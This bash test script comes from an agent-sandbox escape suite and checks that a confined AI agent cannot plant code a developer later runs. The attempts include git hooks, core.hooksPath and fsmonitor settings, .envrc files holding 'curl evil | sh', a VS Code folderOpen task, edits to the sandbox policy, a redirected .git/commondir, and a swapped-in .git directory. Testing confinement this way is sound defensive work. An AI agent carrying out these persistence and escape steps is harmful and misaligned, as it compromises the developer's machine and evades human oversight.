#!/bin/bash
# Escape suite, class "later" (invariant 3: the agent cannot change the next session's
# confinement, nor plant what a human later runs): git hooks, core.hooksPath and
# core.fsmonitor, .envrc and what it sources, editor task files, the policy itself, the
# developer's git config; replacing the whole .git; protected names that did not exist
# at login.  Entered with `su -`.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/e2e/lib-e2e.sh"
. "$TOP/tests/escape/lib-escape.sh"
esc_world "$@"
# The developer's .envrc sources a helper script, as direnv users often do.
esc_as_dev "cd $P && mkdir -p scripts && echo 'export PATH=\$PWD/bin:\$PATH' > scripts/dev-env.sh && echo 'source_env scripts/dev-env.sh' >> .envrc" ||
    e2e_die "setup"
hooks_before=$(ls -A "$P/.git/hooks" | sort | md5sum)
config_before=$(md5sum < "$P/.git/config")

esc_begin later
attempt H01 "write .git/hooks/pre-commit"             'EROFS|EACCES' rec write "$P/.git/hooks/pre-commit" '#!/bin/sh
touch /tmp/abt-esc-hook-ran'
attempt H02 "write .git/config (core.hooksPath)"      'EROFS|EACCES' rec write "$P/.git/config" '[core]
	hooksPath = /tmp'
raw "if git -C $P config core.fsmonitor 'touch /tmp/abt-esc-fsmonitor' 2>/dev/null; then echo 'ESC H03 0 OK core.fsmonitor set'; else echo 'ESC H03 1 EROFS git config refused'; fi"
expect H03 "git config core.fsmonitor" '!OK' -
attempt H04 "write .envrc"                            'EROFS|EACCES' rec write "$P/.envrc" 'curl evil | sh'
attempt H05 "write the script .envrc sources"         'EROFS|EACCES' rec write "$P/scripts/dev-env.sh" 'curl evil | sh'
attempt H06 "write .vscode/tasks.json"                'EROFS|EACCES' rec write "$P/.vscode/tasks.json" '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"touch /tmp/x"}]}'
attempt H07 "create .idea/ (protected name absent at login)" 'EROFS|EACCES' rec mkdir "$P/.idea"
attempt H08 "create a new .envrc in a subdirectory"   'EROFS|EACCES' rec write "$P/src/.envrc" 'curl evil | sh'
attempt H09 "write the system policy"                 'EACCES|EROFS' rec write /etc/agentbox/agentbox.conf '[defaults]'
attempt H10 "add a policy.d drop-in"                  'EACCES|EROFS' rec write /etc/agentbox/policy.d/zz-esc.conf "[user:$ESC_AGENT]"
attempt H11 "write the developer's ~/.gitconfig"      EACCES rec write "$DH/.gitconfig" '[core]
	hooksPath = /tmp'
attempt H12 "rename .git/hooks away"                  '!OK' 'rec?' rename "$P/.git/hooks" "$P/.git/hooks-old"
attempt H13 "write .git/config.worktree (inert unless .git/config enables it)" ANY - write "$P/.git/config.worktree" '[core]
	hooksPath = /tmp'
# .git itself stays the developer's (git's safe.directory check passes) but the agent
# has write access to the directory: .git/commondir redirects config and hooks.
raw "mkdir -p $P/.cache-x && cp -a $P/.git/. $P/.cache-x/ 2>/dev/null; printf '#!/bin/sh\ntouch /tmp/abt-esc-hook-ran\n' > $P/.cache-x/hooks/pre-commit 2>/dev/null; chmod +x $P/.cache-x/hooks/pre-commit 2>/dev/null; chmod -R a+rwX $P/.cache-x 2>/dev/null; true"
attempt H16 "redirect .git/commondir to an agent-made dir with hooks" 'EROFS|EACCES' rec write "$P/.git/commondir" '../.cache-x'
attempt H17 "point .git/objects/info/alternates elsewhere" 'EROFS|EACCES' rec write "$P/.git/objects/info/alternates" "$P/.cache-x/objects"
esc_run su-
esc_check
esc_assert_confined
esc_assert_gone "$ESC_AGENT"

# What the developer sees afterwards: a commit runs no hook of the agent's, and git's
# effective configuration gained nothing.
is "$(ls -A "$P/.git/hooks" | sort | md5sum)" "$hooks_before" "H01 the developer's .git/hooks are unchanged"
is "$(md5sum < "$P/.git/config")" "$config_before" "H02/H03 the developer's .git/config is unchanged"
rm -f /tmp/abt-esc-hook-ran /tmp/abt-esc-fsmonitor
gitout=$(esc_as_dev "cd $P && echo change >> src/main.c && git commit -qam 'dev commit' 2>&1; git config --show-origin --get-regexp 'core\.(hookspath|fsmonitor)|include' 2>&1")
diag "developer's git: ${gitout:-<nothing>}"
if [ -e /tmp/abt-esc-hook-ran ]; then not_ok "H16 the developer's next git commit ran the agent's hook"
else ok "H16 the developer's next git commit ran no hook of the agent's"; fi
must_fail test -e /tmp/abt-esc-fsmonitor
unlike "$gitout" "hookspath" "H13 git's effective config has no core.hooksPath"
rm -rf "$P/.cache-x" "$P/.git/commondir" "$P/.git/config.worktree"
[ -s "$P/.git/objects/info/alternates" ] && : > "$P/.git/objects/info/alternates"

# Then: move the whole .git aside and plant a new one (the protect mounts are on names
# inside it, and a directory holding mount points can itself be renamed).
esc_begin later-git
attempt H14 "rename .git aside (to plant a fresh .git with hooks)" '!OK' 'rec?' rename "$P/.git" "$P/.git-aside"
raw "if [ -d $P/.git-aside ]; then mkdir -p $P/.git && cp -a $P/.git-aside/. $P/.git/ 2>/dev/null; printf '#!/bin/sh\ntouch /tmp/abt-esc-hook-ran\n' > $P/.git/hooks/pre-commit; chmod +x $P/.git/hooks/pre-commit; echo 'ESC H15 0 OK planted a new .git with a pre-commit hook'; else echo 'ESC H15 1 EPERM no new .git'; fi"
expect H15 "plant a fresh .git with a hook" '!OK' -
esc_run su-
esc_check
esc_assert_gone "$ESC_AGENT"
is "$(ls -A "$P/.git/hooks" | sort | md5sum)" "$hooks_before" "H14/H15 the developer's .git/hooks are unchanged"
rm -f /tmp/abt-esc-hook-ran
gitout=$(esc_as_dev "cd $P && echo change2 >> src/main.c && git commit -qam 'dev commit 2' 2>&1")
diag "developer's git after H14/H15: ${gitout:-<ok>}"
must_fail test -e /tmp/abt-esc-hook-ran
# Undo H14 if it went through, so a rerun starts clean.
if [ -d "$P/.git-aside" ]; then rm -rf "$P/.git"; mv "$P/.git-aside" "$P/.git"; fi
finish
